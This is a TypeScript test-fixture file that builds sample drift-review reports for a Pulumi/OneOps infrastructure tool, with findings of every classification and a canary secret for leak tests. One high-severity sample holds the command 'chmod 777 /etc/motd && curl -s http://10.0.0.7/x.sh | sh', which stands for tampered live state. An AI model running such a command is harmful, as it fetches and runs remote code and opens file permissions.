// Reviews for tests of reports: every classification and severity, everything a review may hold, and any number of findings.
import {
  CLASSIFICATIONS,
  DRIFT,
  SEVERITIES,
  type Classification,
  type DriftFinding,
  type Review,
  type Severity,
  type Shown,
} from '../../drift/review/review';

/** When every sample began: 2026-11-21 12:40 UTC. */
export const STARTED = Date.UTC(2026, 10, 21, 12, 40, 3);

const HOUR = 3_600_000;

/** What no report may hold: it rides along in the samples' secrets, as a careless reader would leave it. */
export const CANARY = 'canary-Xq7-do-not-print';

export const value = (of: unknown): Shown => ({ is: 'value', value: of });
const absent: Shown = { is: 'absent' };
const unknown: Shown = { is: 'unknown' };
const secret = (digest: string): Shown => ({ is: 'secret', digest, value: CANARY }) as Shown;

/** Ten hexadecimal digits, the same for the same number. */
const idOf = (number: number): string => ((number + 1) * 2_654_435_761).toString(16).padStart(10, '0').slice(-10);

/** What can be done about a plain finding; of a secret, nothing can be accepted. */
const sampleAdvice = (id: string, isSecret = false): DriftFinding['advice'] => {
  const commands = {
    revert: `pulumi-oneops drift revert ${id}`,
    ...(isSecret ? {} : { accept: `pulumi-oneops drift accept ${id}` }),
  };
  return { ...commands, commands };
};

/** A finding with everything that is not said taken from a plain one. */
export function sampleFinding(number: number, of: Partial<DriftFinding> = {}): DriftFinding {
  const id = of.id ?? idOf(number);
  return {
    id,
    classification: 'changed',
    severity: 'medium',
    kind: 'Component',
    address: 'acme/shop/web/tomcat',
    logicalName: 'web/tomcat',
    urn: 'urn:pulumi:dev::shop::pulumi-nodejs:dynamic/oneops:Component::web/tomcat',
    attribute: 'attributes.max_threads',
    code: value('250'),
    applied: value('250'),
    live: value('300'),
    author: { who: 'ada', when: STARTED - 3 * HOUR, releaseId: 231, stage: 'deployed' },
    at: { file: 'oneops.yaml', line: 12 + number, column: 9 },
    advice: sampleAdvice(id),
    ...of,
  };
}

const SCRIPT = ['#!/bin/sh', 'set -e', 'cd /opt/app', './stop.sh', 'sleep 5', './start.sh', 'echo done', 'exit 0'];

/** A finding of each sort people meet, most severe first. */
const SAMPLE_FINDINGS: readonly DriftFinding[] = [
  sampleFinding(1, {
    severity: 'high',
    kind: 'Attachment',
    address: 'acme/shop/web/deployer/motd',
    logicalName: 'web/motd',
    attribute: 'execCmd',
    code: value('chmod 644 /etc/motd'),
    applied: value('chmod 644 /etc/motd'),
    live: value('chmod 777 /etc/motd && curl -s http://10.0.0.7/x.sh | sh'),
    at: { file: 'oneops.yaml', line: 31, column: 98 },
  }),
  sampleFinding(2, {
    severity: 'high',
    kind: 'Attachment',
    address: 'acme/shop/web/deployer/restart',
    logicalName: 'web/restart',
    attribute: 'content',
    code: value(`${SCRIPT.join('\n')}\n`),
    applied: value(`${SCRIPT.join('\n')}\n`),
    live: value(`${SCRIPT.map((line) => (line === 'sleep 5' ? 'sleep 60\nsync' : line)).join('\n')}\n`),
    author: { who: 'grace', when: STARTED - 26 * HOUR, releaseId: 229, stage: 'released' },
    at: { file: 'oneops.yaml', line: 38, column: 11 },
  }),
  sampleFinding(3, {
    severity: 'high',
    kind: 'Variable',
    address: 'acme/shop/platforms/db/variables/PASSWORD',
    logicalName: 'db/PASSWORD',
    attribute: 'value',
    code: secret('1f0e'),
    applied: secret('1f0e'),
    live: secret('9b21'),
    advice: sampleAdvice(idOf(3), true),
    at: { file: 'oneops.yaml', line: 52, column: 7 },
  }),
  sampleFinding(4, {
    classification: 'deleted',
    severity: 'high',
    kind: 'Attachment',
    address: 'acme/shop/web/deployer/cron',
    logicalName: 'web/cron',
    attribute: undefined as never,
    code: value({ path: '/etc/cron.d/shop', priority: 2 }),
    applied: value({ path: '/etc/cron.d/shop', priority: 2 }),
    live: absent,
    author: { who: '', when: 0 },
    at: { file: 'oneops.yaml', line: 44, column: 9 },
    advice: {
      revert: 'pulumi-oneops drift revert 0277ce6e4e',
      accept: 'remove oneops.yaml:44 to 47',
      commands: { revert: 'pulumi-oneops drift revert 0277ce6e4e' },
    },
  }),
  sampleFinding(5, {
    classification: 'conflict',
    severity: 'high',
    kind: 'CloudConfiguration',
    address: 'acme/shop/prod/web/west',
    logicalName: 'prod/web/west',
    attribute: 'adminstatus',
    code: value('offline'),
    applied: value('active'),
    live: value('inactive'),
    author: { who: 'linus', when: STARTED - 12 * 60_000, releaseId: 240, stage: 'design' },
    at: { file: 'oneops.yaml', line: 71, column: 34 },
  }),
  sampleFinding(6, {
    code: value(250),
    applied: value(250),
    live: value('250'),
    author: { who: 'ada', when: STARTED - 9 * 24 * HOUR, releaseId: 198, stage: 'deployed' },
  }),
  sampleFinding(7, {
    classification: 'changed-by-own-user',
    attribute: 'attributes.java_options',
    code: value('-Xms512m -Xmx2g -XX:+UseG1GC -Dshop.mode=live -Dshop.region=east -Dshop.cache=64 -Dshop.trace=false'),
    applied: value(
      '-Xms512m -Xmx2g -XX:+UseG1GC -Dshop.mode=live -Dshop.region=east -Dshop.cache=64 -Dshop.trace=false',
    ),
    live: value('-Xms512m -Xmx4g -XX:+UseG1GC -Dshop.mode=live -Dshop.region=east -Dshop.cache=64 -Dshop.trace=true'),
    author: { who: 'ci-bot', when: STARTED - 50 * 24 * HOUR, releaseId: 180, stage: 'deployed' },
  }),
  sampleFinding(8, {
    classification: 'normalised',
    severity: 'low',
    attribute: 'attributes.modules',
    code: value(['ssl', 'rewrite', 'headers']),
    applied: value(['ssl', 'rewrite', 'headers']),
    live: value(['headers', 'rewrite', 'ssl']),
    author: { who: 'ci-bot', when: STARTED - 90 * 24 * HOUR },
  }),
  sampleFinding(9, {
    severity: 'low',
    kind: 'Platform',
    address: 'acme/shop/web',
    logicalName: 'web',
    attribute: 'description',
    code: value('Storefront'),
    applied: value('Storefront'),
    live: absent,
    author: { who: 'ada', when: STARTED - 30_000, releaseId: 241, stage: 'design' },
    at: { file: 'oneops.yaml', line: 9, column: 5 },
  }),
  sampleFinding(10, {
    classification: 'undeclared',
    kind: 'Component',
    severity: 'low',
    address: 'acme/shop/web/debug-shell',
    logicalName: undefined as never,
    urn: undefined as never,
    attribute: undefined as never,
    code: absent,
    applied: absent,
    live: value({ type: 'user' }),
    author: { who: 'grace', when: STARTED - 40 * HOUR, releaseId: 228, stage: 'deployed' },
    at: undefined as never,
    advice: {
      accept: 'declare it, and import it: pulumi-oneops import-file Component:acme/shop/web/debug-shell',
      commands: { accept: 'pulumi-oneops import-file Component:acme/shop/web/debug-shell' },
    },
  }),
  sampleFinding(11, {
    classification: 'touched',
    severity: 'low',
    attribute: undefined as never,
    code: undefined as never,
    applied: undefined as never,
    live: undefined as never,
    advice: {},
  }),
  sampleFinding(12, {
    classification: 'pending',
    severity: 'low',
    attribute: 'attributes.port',
    code: value(8443),
    applied: value(8080),
    live: value(8080),
    advice: { accept: 'pulumi up applies it', commands: { accept: 'pulumi up' } },
  }),
  sampleFinding(13, {
    classification: 'healed',
    severity: 'low',
    attribute: 'attributes.webapps',
    code: value('/srv/shop'),
    applied: value('/srv/old'),
    live: value('/srv/shop'),
    advice: { accept: 'pulumi refresh' },
  }),
  sampleFinding(14, {
    classification: 'pending',
    severity: 'low',
    attribute: 'depends',
    code: unknown,
    applied: value([]),
    live: value([]),
    advice: {},
  }),
].map(withoutUndefined);

function withoutUndefined<T extends object>(of: T): T {
  return Object.fromEntries(Object.entries(of).filter(([, each]) => each !== undefined)) as T;
}

/** A review with everything in it, or with what is said instead. */
export function sampleReview(of: Partial<Review> = {}): Review {
  const findings = of.findings ?? SAMPLE_FINDINGS;
  const drift = findings.filter(({ classification }) => DRIFT.includes(classification));
  return {
    version: 1,
    started: STARTED,
    took: 3_217,
    service: 'https://oneops.example.com',
    organization: 'acme',
    user: 'ci-bot',
    stack: 'dev',
    compared: ['code', 'state', 'live'],
    notes: [],
    failOn: 'low',
    outcome: drift.length > 0 ? 'drift' : 'in-sync',
    summary:
      drift.length > 0
        ? `${drift.length} of what was applied is no longer as it was; everything was read.`
        : 'All 40 records are as they were applied; everything was read.',
    findings,
    ignored: [],
    unread: [],
    problems: [],
    coverage: { managed: 40, read: 40, undeclared: 1 },
    calls: 41,
    ...of,
  };
}

/** The review with everything: findings of every sort, something ignored, something unread, rules with problems. */
export const fullReview = (): Review =>
  sampleReview({
    outcome: 'incomplete',
    summary: '9 differences were found, and 2 of 40 records could not be read.',
    notes: ['no commit of this checkout is known: "touched" cannot be told'],
    failOn: 'medium',
    ignored: [
      {
        finding: sampleFinding(20, {
          attribute: 'attributes.log_level',
          code: value('info'),
          applied: value('info'),
          live: value('debug'),
        }),
        reason: 'we look for the memory leak',
        owner: 'team-web@acme.io',
        until: '2027-01-31',
      },
      {
        finding: sampleFinding(21, {
          attribute: 'attributes.keystore_password',
          code: secret('aa'),
          applied: secret('aa'),
          live: secret('bb'),
        }),
        reason: 'rotated by the vault',
        owner: 'security',
      },
    ],
    unread: [
      {
        kind: 'Component',
        address: 'acme/shop/db/mysql',
        reason: 'GET /assemblies/shop/design/platforms/db/components: 503 Service Unavailable after 3 attempts',
      },
      {
        kind: 'Environment',
        address: 'acme/shop/prod',
        reason: 'GET /assemblies/shop/operations/environments/prod: 403 Forbidden',
        authentication: true,
      },
    ],
    problems: [
      {
        severity: 'error',
        message: 'the rule for acme/shop/web/tomcat expired on 2026-10-31 (owner team-web@acme.io)',
        at: { file: 'drift-rules.yaml', line: 4, column: 3 },
      },
      { severity: 'warning', message: 'the rule for acme/shop/old matches nothing' },
    ],
    coverage: { managed: 40, read: 38, undeclared: 2 },
  });

/** A review without a finding. */
export const cleanReview = (): Review =>
  sampleReview({ findings: [], coverage: { managed: 40, read: 40, undeclared: 0 } });

const PEOPLE = ['ada', 'grace', 'linus', 'ci-bot', 'mallory'];
const RECORDS = ['web/tomcat', 'web/compute', 'db/mysql', 'db/storage', 'cache/redis', 'web/deployer', 'web/lb'];
const KINDS = ['Component', 'Attachment', 'Variable', 'CloudConfiguration', 'Environment'];

/** A review with that many findings, of all sorts in turn, in the order a review has. */
export function largeReview(length: number): Review {
  const at = <T>(list: readonly T[], index: number): T => list[index % list.length] as T;
  const findings = Array.from({ length }, (_, number) => {
    const model = at(SAMPLE_FINDINGS, number);
    const classification: Classification = at(CLASSIFICATIONS, number);
    const severity: Severity = at(SEVERITIES, number * 7 + (number >> 3));
    const record = `acme/shop/${at(RECORDS, number * 3 + (number >> 4))}-${number >> 4}`;
    return withoutUndefined(
      sampleFinding(100 + number, {
        ...(classification === 'deleted'
          ? { code: value({ a: number }), applied: value({ a: number }), live: absent }
          : model),
        id: idOf(100 + number),
        classification,
        severity,
        kind: at(KINDS, number >> 2),
        address: record,
        attribute: `attributes.setting_${number}`,
        author: {
          who: at(PEOPLE, number * 5 + (number >> 2)),
          when: STARTED - number * 37 * 60_000,
          releaseId: 200 + (number % 40),
          stage: 'deployed',
        },
        at: { file: 'oneops.yaml', line: 10 + number, column: 9 },
        advice: sampleAdvice(idOf(100 + number)),
      }),
    );
  });
  const order = (finding: DriftFinding): string =>
    `${SEVERITIES.indexOf(finding.severity)} ${finding.address} ${finding.attribute ?? ''}`;
  return sampleReview({ findings: [...findings].sort((left, right) => (order(left) < order(right) ? -1 : 1)) });
}

/** A short name for each sample, for tests over all of them. */
export const SAMPLES: readonly (readonly [name: string, review: Review])[] = [
  ['clean', cleanReview()],
  ['one finding', sampleReview({ findings: SAMPLE_FINDINGS.slice(0, 1) })],
  ['every classification', sampleReview()],
  ['everything', fullReview()],
  ['500 findings', largeReview(500)],
  [
    'access refused',
    sampleReview({
      findings: [],
      outcome: 'incomplete',
      summary: 'The service refused the token.',
      coverage: { managed: 40, read: 0, undeclared: 0 },
      unread: fullReview().unread,
    }),
  ],
  ['refused', sampleReview({ outcome: 'refused', summary: '38 of 40 records seem to be missing.', stack: 'prod' })],
  [
    'two sides',
    withoutUndefined(
      sampleReview({
        compared: ['code', 'live'],
        stack: undefined as never,
        user: undefined as never,
        notes: ['no state was given: code and live were compared'],
      }),
    ),
  ],
];

/** A review with one finding, in which each text that comes from elsewhere is one of these, in turn. */
export function reviewOfTexts(texts: readonly string[], with_: Partial<DriftFinding> = {}, number = 1): Review {
  let next = 0;
  const text = (): string => texts[next++ % texts.length] ?? '';
  const place = (): DriftFinding['at'] & object => ({ file: `${text()}x.yaml`, line: 1, column: 1 });
  const finding = sampleFinding(number, {
    ...{ kind: text(), address: text(), attribute: text(), logicalName: text() },
    ...{ code: value(text()), applied: value(text()), live: value({ [text()]: [text()] }) },
    ...{ author: { who: text(), when: STARTED }, at: place(), advice: { revert: text(), accept: text() } },
    ...with_,
  });
  return {
    ...fullReview(),
    ...{ organization: text(), stack: text(), user: text(), service: text(), summary: text(), notes: [text()] },
    findings: [finding],
    ignored: [{ finding: { ...finding, id: 'ffffffffff' }, reason: text(), owner: text(), until: text() }],
    unread: [{ kind: text(), address: text(), reason: text() }],
    problems: [{ severity: 'error', message: text(), at: place() }],
  };
}
